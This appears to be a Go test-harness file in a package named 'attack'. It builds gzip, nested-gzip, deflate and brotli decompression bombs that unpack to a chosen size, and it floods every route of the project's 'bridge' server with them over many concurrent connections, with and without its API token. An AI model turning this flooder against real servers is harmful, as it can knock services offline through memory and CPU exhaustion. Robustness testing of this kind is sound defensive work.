package attack

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"io"
	"net/http"
	"sync"

	"github.com/andybalholm/brotli"
)

// A bomb is a body that is small until it is unpacked.
type bomb struct {
	encoding string
	body     []byte
}

// bombsOf keeps the bodies of each size: to pack gigabytes takes seconds.
var bombsOf sync.Map

// newBombs makes bodies that unpack to size bytes.
func newBombs(size int) []bomb {
	if made, ok := bombsOf.Load(size); ok {
		return made.([]bomb)
	}
	zeros := func(w io.WriteCloser) {
		block := make([]byte, 1<<20)
		for n := 0; n < size; n += len(block) {
			_, _ = w.Write(block) // to memory
		}
		_ = w.Close()
	}
	var once, twice, thrice, deflated, brotlied bytes.Buffer
	zeros(gzip.NewWriter(&once))
	again(&twice, once.Bytes())
	again(&thrice, twice.Bytes())
	zeros(zlib.NewWriter(&deflated))
	zeros(brotli.NewWriterLevel(&brotlied, 5))
	bombs := []bomb{
		{"gzip", once.Bytes()},
		{"gzip, gzip", twice.Bytes()},
		{"gzip, gzip, gzip", thrice.Bytes()},
		{"deflate", deflated.Bytes()},
		{"br", brotlied.Bytes()},
	}
	bombsOf.Store(size, bombs)
	return bombs
}

// again packs bytes with gzip.
func again(to *bytes.Buffer, packed []byte) {
	w, _ := gzip.NewWriterLevel(to, gzip.BestCompression) // the level is valid
	_, _ = w.Write(packed)
	_ = w.Close()
}

// bombard sends the bombs again and again over n connections, to every route, with and without the API's token.
func bombard(n, size int) attack {
	bombs := newBombs(size)
	return func(ctx context.Context, w *world) {
		client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: n}}
		defer client.CloseIdleConnections()
		var all sync.WaitGroup
		for i := range n {
			all.Go(func() {
				for k := i; ctx.Err() == nil; k++ {
					b := bombs[k%len(bombs)]
					w.hits.Add(1)
					post(ctx, client, w.bridge.url()+routes[k/2%len(routes)], b.encoding, b.body, k%2 == 0)
				}
			})
		}
		all.Wait()
	}
}

// post sends a body and reads the answer.
func post(ctx context.Context, client *http.Client, url, encoding string, body []byte, authorized bool) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return
	}
	req.Header.Set("Content-Encoding", encoding)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if authorized {
		req.Header.Set("Authorization", "Bearer "+apiToken)
	}
	resp, err := client.Do(req)
	if err != nil {
		rest(ctx, retry) // the bridge has closed the connection
		return
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	_ = resp.Body.Close()
}
